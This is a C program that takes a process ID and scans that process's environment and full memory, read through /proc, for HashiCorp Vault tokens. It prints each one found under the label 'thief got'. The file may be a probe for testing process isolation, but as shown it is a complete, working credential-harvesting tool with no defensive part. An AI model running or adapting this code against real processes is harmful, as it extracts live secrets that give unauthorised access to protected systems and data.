/* Looks for a token in the environment and in all of the memory of a process, as /proc shows them.
 * A token of Vault's is "s." and 24 letters or digits.
 * Usage: search PID */
#include "peer.h"
#include <ctype.h>
#include <fcntl.h>
#include <stdbool.h>

enum { LETTERS = 24, OVERLAP = 64 };

static char bytes[1 << 20];
static size_t seen;
static int found;

static void look_at(const char *where, size_t n) {
    seen += n;
    for (char *at = bytes; (at = memmem(at, (size_t)(bytes + n - at), "s.", 2)); at += 2) {
        int length = 0;
        while (at + 2 + length < bytes + n && isalnum((unsigned char)at[2 + length]))
            length++;
        bool inside = at > bytes && (isalnum((unsigned char)at[-1]) || at[-1] == '.');
        if (length != LETTERS || inside)
            continue;
        dprintf(STDOUT_FILENO, "thief got: %.*s in %s\n", LETTERS + 2, at, where);
        found++;
    }
}

static int open_of(const char *pid, const char *name) {
    char file[64];
    snprintf(file, sizeof file, "/proc/%s/%s", pid, name);
    return open(file, O_RDONLY);
}

/* In pieces that overlap: a token lies whole in one of them. */
static void look_through(int memory, unsigned long start, unsigned long end) {
    while (start < end) {
        size_t size = end - start < sizeof bytes ? end - start : sizeof bytes;
        ssize_t n = pread(memory, bytes, size, (off_t)start);
        if (n <= 0)
            return; /* [vvar], or it was unmapped */
        look_at("memory", (size_t)n);
        start += (size_t)n > OVERLAP && start + (size_t)n < end ? (size_t)n - OVERLAP : (size_t)n;
    }
}

int main(int argc, char **argv) {
    char line[4096];
    unsigned long start, end;
    if (argc != 2)
        errx(64, "usage: search PID");
    int environment = open_of(argv[1], "environ");
    int memory = open_of(argv[1], "mem");
    int maps = open_of(argv[1], "maps");
    if (environment < 0 || memory < 0 || maps < 0) {
        dprintf(STDOUT_FILENO, "thief: %s\n", strerror(errno));
        return 1;
    }
    ssize_t n = read(environment, bytes, sizeof bytes);
    look_at("environ", n > 0 ? (size_t)n : 0);
    FILE *lines = fdopen(maps, "r");
    while (fgets(line, sizeof line, lines))
        if (sscanf(line, "%lx-%lx r", &start, &end) == 2)
            look_through(memory, start, end);
    dprintf(STDOUT_FILENO, "thief: %d found in %s bytes\n", found, seen > 0 ? "many" : "no");
}
